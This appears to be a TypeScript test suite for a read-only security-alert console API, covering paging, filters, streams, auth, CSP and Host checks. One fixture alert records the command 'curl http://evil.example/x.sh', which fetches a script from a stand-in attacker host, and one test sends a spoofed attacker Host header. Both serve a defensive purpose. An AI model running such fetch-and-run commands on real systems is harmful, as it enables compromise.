// The console's read-only API over a real store and a real HTTP server: pages with cursors, every filter, one
// alert with its context, counts per bucket, top values, the live stream, errors with their reasons, the token,
// the loopback Host check, read-only methods and the security headers.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { request } from 'undici';
import { CONTENT_SECURITY_POLICY } from '../../src/console/handler.ts';
import type { ConsoleServer } from '../../src/console/server.ts';
import type { Alert } from '../../src/outputs/alert.ts';
import { AlertStoreWriter } from '../../src/store/writer.ts';
import { storeAlert, storeWith } from '../store/helpers.ts';
import { SseReader, serveConsole } from './helpers.ts';

// 300 alerts: three rules, priorities cycling, two hosts, two containers and the host, one per second.
const PRIOS = ['Critical', 'Warning', 'Notice'] as const;
const ALERTS: Alert[] = Array.from({ length: 300 }, (_, i) =>
  storeAlert(i, {
    rule: ['Read sensitive file', 'Shell in container', 'Outbound connection'][i % 3],
    priority: PRIOS[Math.floor(i / 3) % 3],
    host: i % 2 === 0 ? 'web-1' : 'web-2',
    container: ['', '3ad7b26ded6d', '9f1c0e2b7a44'][i % 5 === 0 ? 0 : (i % 2) + 1],
    proc: i % 4 === 0 ? 'curl' : 'cat',
    cmdline: i === 123 ? 'curl http://evil.example/x.sh' : undefined,
  }),
);
const expectedCount = (pred: (a: Alert) => boolean): number => ALERTS.filter(pred).length;

let store: { dir: string; path: string };
let server: ConsoleServer;

before(async () => {
  store = storeWith(ALERTS);
  server = await serveConsole(store.path);
});
after(async () => {
  await server.close();
  rmSync(store.dir, { recursive: true, force: true });
});

async function get(path: string, headers: Record<string, string> = {}) {
  const r = await request(`${server.url.slice(0, -1)}${path}`, { headers });
  const text = await r.body.text();
  return { status: r.statusCode, headers: r.headers, text, json: () => JSON.parse(text) };
}

test('pages newest first; the cursor walks every alert once', async () => {
  const first = (await get('/api/alerts?limit=100')).json();
  assert.equal(first.total, 300);
  assert.equal(first.alerts.length, 100);
  assert.equal(first.last_id, 300);
  assert.equal(first.alerts[0].id, 300);
  const seen = new Set<number>(first.alerts.map((a: { id: number }) => a.id));
  let next = first.next;
  while (next !== null) {
    const p = (await get(`/api/alerts?limit=100&cursor=${encodeURIComponent(next)}`)).json();
    for (const a of p.alerts) {
      assert.equal(seen.has(a.id), false);
      seen.add(a.id);
    }
    next = p.next;
  }
  assert.equal(seen.size, 300);
  const keys = Object.keys(first.alerts[0]);
  for (const k of ['time', 'rule', 'priority', 'source', 'hostname', 'tags', 'output', 'output_fields'])
    assert.ok(keys.includes(k), k);
});

test('filters narrow the list: rule, priority, host, container, image, process, text, time range', async () => {
  const total = async (q: string): Promise<number> => (await get(`/api/alerts?${q}`)).json().total;
  assert.equal(
    await total('rule=Shell+in+container'),
    expectedCount((a) => a.rule === 'Shell in container'),
  );
  assert.equal(
    await total('rule=Shell+in+container&rule=Outbound+connection'),
    expectedCount((a) => a.rule !== 'Read sensitive file'),
  );
  assert.equal(
    await total('priority=warning'),
    expectedCount((a) => a.priority !== 'Notice'),
  );
  assert.equal(
    await total('priority=critical&host=web-2'),
    expectedCount((a) => a.priority === 'Critical' && a.hostname === 'web-2'),
  );
  assert.equal(
    await total('container=3ad7b26ded6d'),
    expectedCount((a) => a.outputFields['container.id'] === '3ad7b26ded6d'),
  );
  assert.equal(
    await total('container=host'),
    expectedCount((a) => a.outputFields['container.id'] === 'host'),
  );
  assert.equal(
    await total('image=nginx%3A1.27'),
    expectedCount((a) => a.outputFields['container.id'] !== 'host'),
  );
  assert.equal(
    await total('process=curl'),
    expectedCount((a) => a.outputFields['proc.name'] === 'curl'),
  );
  assert.equal(await total('q=EVIL.example'), 1);
  // % and _ are literal in the search text
  assert.equal(await total('q=100%25'), 0);
  assert.equal(await total('since=2025-11-24T16:01:40Z&until=2025-11-24T16:02:00Z'), 20);
  assert.equal(await total('since=1764000290000000000'), 10);
});

test('one alert with its context: the ancestry, the user, the container and the pod', async () => {
  const list = (await get('/api/alerts?q=evil.example')).json();
  const one = (await get(`/api/alerts/${list.alerts[0].id}`)).json();
  assert.equal(one.output_fields['proc.cmdline'], 'curl http://evil.example/x.sh');
  assert.equal(one.context['proc.aname[1]'], 'bash');
  assert.equal(one.context['proc.acmdline[2]'], 'sshd: root@pts/0');
  assert.equal(one.context['user.name'], 'root');
  assert.equal(one.context['k8s.pod.name'], 'frontend-9f1c');
  const missing = await get('/api/alerts/99999');
  assert.equal(missing.status, 404);
  assert.match(missing.json().error, /no alert 99999/);
});

test('counts per time bucket by priority and by rule; top values', async () => {
  const c = (await get('/api/counts?buckets=10')).json();
  assert.equal(c.by, 'priority');
  assert.equal(c.times.length, c.series[0].counts.length);
  const sum = (key: string) =>
    c.series.find((s: { key: string }) => s.key === key).counts.reduce((a: number, b: number) => a + b, 0);
  assert.equal(
    sum('Critical'),
    expectedCount((a) => a.priority === 'Critical'),
  );
  assert.equal(
    sum('Notice'),
    expectedCount((a) => a.priority === 'Notice'),
  );
  const byRule = (await get('/api/counts?by=rule&buckets=5&host=web-1')).json();
  assert.deepEqual(byRule.series.map((s: { key: string }) => s.key).sort(), [
    'Outbound connection',
    'Read sensitive file',
    'Shell in container',
  ]);
  const top = (await get('/api/top?field=container&limit=5')).json();
  assert.equal(top.items[0].count + top.items[1].count + top.items[2].count, 300);
  const named = top.items.find((i: { value: string }) => i.value === '3ad7b26ded6d');
  assert.equal(named.name, 'web-3ad7');
  assert.equal(named.image, 'nginx:1.27');
  const procs = (await get('/api/top?field=process')).json();
  assert.deepEqual(procs.items.map((i: { value: string }) => i.value).sort(), ['cat', 'curl']);
});

test('bad requests get 400 with the reason; unknown paths 404', async () => {
  const cases: [string, RegExp][] = [
    ['/api/alerts?priority=loud', /priority: 'loud' is not one of emergency/],
    ['/api/alerts?since=yesterday', /since: 'yesterday' is not a time/],
    ['/api/alerts?limit=0', /limit: expected an integer from 1 to 500/],
    ['/api/alerts?cursor=abc', /cursor: 'abc' is not a cursor/],
    ['/api/alerts?colour=red', /unknown parameter 'colour'/],
    ['/api/alerts?since=2h&until=3h', /until: must be later than since/],
    ['/api/top?field=user', /field: 'user' is not one of rule, host, container, image, process/],
  ];
  for (const [path, message] of cases) {
    const r = await get(path);
    assert.equal(r.status, 400, path);
    assert.match(r.json().error, message, path);
  }
  assert.equal((await get('/api/nothing')).status, 404);
});

test('the live stream sends alerts committed after it opened, with their ids, filtered', async () => {
  const ctrl = new AbortController();
  const res = await request(`${server.url}api/stream?rule=Shell+in+container`, { signal: ctrl.signal });
  assert.equal(res.statusCode, 200);
  assert.match(String(res.headers['content-type']), /^text\/event-stream/);
  const sse = new SseReader(res.body);
  const w = AlertStoreWriter.open({ path: store.path, maxAgeMs: 0, maxRows: 0 });
  w.insert([storeAlert(1000, { rule: 'Outbound connection' }), storeAlert(1001, { rule: 'Shell in container' })]);
  w.close();
  const e = await sse.next();
  assert.equal(e.event, 'alert');
  const a = JSON.parse(e.data);
  assert.equal(a.rule, 'Shell in container');
  assert.equal(e.id, String(a.id));
  assert.equal(a.id, 302);
  ctrl.abort();
});

test('a reconnecting stream resumes after Last-Event-ID', async () => {
  const ctrl = new AbortController();
  const res = await request(`${server.url}api/stream`, { signal: ctrl.signal, headers: { 'last-event-id': '298' } });
  const sse = new SseReader(res.body);
  const ids = [(await sse.next()).id, (await sse.next()).id];
  assert.deepEqual(ids.slice(0, 2), ['299', '300']);
  ctrl.abort();
});

test('read-only, with a Content-Security-Policy that forbids inline script, and loopback Host names only', async () => {
  const post = await request(`${server.url}api/alerts`, { method: 'POST', body: '{}' });
  assert.equal(post.statusCode, 405);
  await post.body.text();
  const page = await get('/');
  assert.equal(page.status, 200);
  assert.equal(page.headers['content-security-policy'], CONTENT_SECURITY_POLICY);
  assert.match(CONTENT_SECURITY_POLICY, /script-src 'self';/);
  assert.doesNotMatch(CONTENT_SECURITY_POLICY, /unsafe-inline|unsafe-eval/);
  assert.doesNotMatch(page.text, /<script>|<script [^>]*>[^<]/, 'no inline script in the page');
  assert.equal((await get('/api/summary')).headers['content-security-policy'], CONTENT_SECURITY_POLICY);
  const rebound = await get('/api/summary', { host: 'attacker.example:80' });
  assert.equal(rebound.status, 403);
});

test('with a token, the API answers only requests that carry it', async () => {
  const s = await serveConsole(store.path, { token: 's3cret-token' });
  try {
    const url = `${s.url}api/summary`;
    const none = await request(url);
    assert.equal(none.statusCode, 401);
    assert.match(String(none.headers['www-authenticate']), /^Bearer/);
    await none.body.text();
    const wrong = await request(url, { headers: { authorization: 'Bearer nope' } });
    assert.equal(wrong.statusCode, 401);
    await wrong.body.text();
    const ok = await request(url, { headers: { authorization: 'Bearer s3cret-token' } });
    assert.equal(ok.statusCode, 200);
    assert.ok(JSON.parse(await ok.body.text()).alerts >= 300);
    // the page itself carries no alert data and loads without the token
    const page = await request(s.url);
    assert.equal(page.statusCode, 200);
    await page.body.text();
  } finally {
    await s.close();
  }
});

test('health: a console over a file says it has no live metrics; a live one gives the detector numbers', async () => {
  const h = (await get('/api/health')).json();
  assert.equal(h.live, false);
  assert.match(h.message, /No live metrics/);
  const live = await serveConsole(store.path, {
    health: () => ({
      eventsProcessed: 1234,
      kernelDrops: 5,
      userspaceDrops: 1,
      alerts: 7,
      channels: [{ name: 'alert_store', depth: 0, capacity: 100, down: false, dropped: 2 }],
    }),
  });
  try {
    const r = await request(`${live.url}api/health`);
    const j = JSON.parse(await r.body.text());
    assert.equal(j.live, true);
    assert.equal(j.events_processed, 1234);
    assert.equal(j.kernel_drops, 5);
    assert.equal(j.output_drops, 2);
  } finally {
    await live.close();
  }
});
